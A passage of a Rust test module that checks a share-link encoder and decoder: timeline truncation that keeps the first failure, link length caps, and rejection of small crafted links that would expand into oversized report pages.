        assert!(
            kept <= KEEP_LAST + 2 * KEEP_AROUND_FIRST_FAILURE + 1,
            "{kept}"
        );
        let omitted = back.timeline_omitted.expect("says what it left out");
        assert_eq!(omitted.heartbeats as usize + kept, 2_000);
        assert_eq!(
            omitted.ok + omitted.failed + omitted.untested,
            omitted.heartbeats
        );
        let has = |n: u32| {
            back.timeline.entries().any(|e| match &e.event {
                TimelineEvent::Heartbeat { seq, .. } => *seq == n,
                TimelineEvent::Run { run } => run.first_seq <= n && n <= run.last_seq,
                _ => false,
            })
        };
        assert!(has(1_500), "first failure kept");
        assert!(has(1_999), "last kept");
        match encode_checked(&r, |_| false) {
            Ok(l) => assert!(l.len() <= MAX_LINK_CHARS),
            Err(e) => assert_eq!(e, LinkRefused::TooLong { chars: link.len() }),
        }
        // A small report's link is untouched.
        let small = realistic_report();
        assert_eq!(decode(&encode(&small)).unwrap(), small);
    }

    /// L8: a small link cannot make the page build a huge view: long strings
    /// and lists are refused when read, and the view is bounded like a link.
    #[test]
    fn l8_small_links_cannot_make_large_pages() {
        use crate::timeline::TimelineEvent;
        let mut r = realistic_report();
        r.verdict.headline = "x".repeat(1_500_000);
        assert!(matches!(decode(&encode(&r)), Err(ShareError::Malformed(_))));
        let mut r = realistic_report();
        for _ in 0..67_000 {
            r.timeline.push(0.0, TimelineEvent::Paused);
        }
        let json = serde_json::to_string(&r).unwrap();
        let compressed = miniz_oxide::deflate::compress_to_vec(json.as_bytes(), LEVEL);
        let crafted = format!(
            "r1.{}.{}",
            check_of(&compressed),
            URL_SAFE_NO_PAD.encode(&compressed)
        );
        assert!(crafted.len() < 20_000, "{}", crafted.len());
        assert!(matches!(decode(&crafted), Err(ShareError::Malformed(_))));
        // Under the list cap, the view still holds a bounded number of entries.
        r.timeline =
            crate::timeline::Timeline::from_entries(r.timeline.entries().take(4_000).cloned());
        let view = shown(&r);
        assert!(
            view.report.timeline.len() <= 200,
            "{}",
            view.report.timeline.len()
        );
    }
}
